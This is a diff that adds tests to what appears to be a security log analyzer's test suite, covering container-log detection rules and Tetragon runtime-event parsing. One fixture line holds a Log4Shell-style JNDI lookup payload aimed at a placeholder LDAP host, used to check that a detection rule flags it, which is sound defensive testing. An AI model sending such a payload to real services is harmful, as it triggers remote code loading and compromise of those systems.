@@ -431,6 +431,16 @@ class ContainerLogs(Inputs):
         for name, n in (("logs/plain.txt", 2), ("logs/plain-prefixed.log", 1)):
             self.assertEqual(self.source(name)["without_time"], n)
 
+    def test_rules_read_lines_that_were_taken_without_times(self):
+        line = "[pod/web-0/app] GET /?x=${jndi:ldap://198.51.100.9/a} 404"
+        self.put("taken.txt", f"[pod/web-0/app] started\n{line}\n")
+        self.analyze()
+        self.assertEqual(self.messages("taken.txt"), [])
+        [found] = [f for f in self.findings if f["rule"] == "log_jndi"]
+        self.assertIsNone(found["time"])
+        self.assertEqual([(s["offset"], s["length"]) for s in found["spans"]],
+                         [(24, len(line))])
+
 
 class Runtime(Inputs):
     def test_journal_of_kubelet_and_containerd(self):
@@ -485,6 +495,10 @@ class Runtime(Inputs):
             tetragon("process_kprobe", 2, function_name="tcp_connect", args=[
                 {"sock_arg": {"daddr": "198.51.100.7", "dport": 443}}]),
             tetragon("process_tracepoint", 3, subsys="raw_syscalls", event="sys_exit")]))
+        self.put("lsm.json", compact(tetragon("process_lsm", 5, function_name="x")) + "\n")
+        self.put("export-stdout.log", "".join(
+            f"2026-03-01T10:00:0{n}.7Z stdout F {compact(tetragon('process_exec', n))}\n"
+            for n in range(3)))
         self.put("tracee.json", "".join(compact(v) + "\n" for v in [
             {"timestamp": 1772359204500000000, "eventName": "sched_process_exec",
              "processName": "sh", "processId": 7, "userId": 0, "hostName": "node-1",
@@ -503,7 +517,8 @@ class Runtime(Inputs):
         self.analyze()
         self.assertEqual(self.source("tetragon.log")["records"], 4)
         self.assertEqual(self.source("tracee.json")["records"], 2)
-        for name, n in (("tetragon.log", 4), ("tracee.json", 2)):
+        for name, n in (("tetragon.log", 4), ("tracee.json", 2), ("lsm.json", 1),
+                        ("export-stdout.log", 3)):
             events = self.of(name, "runtime")
             self.assertEqual(len(events), n)
             for e in events:
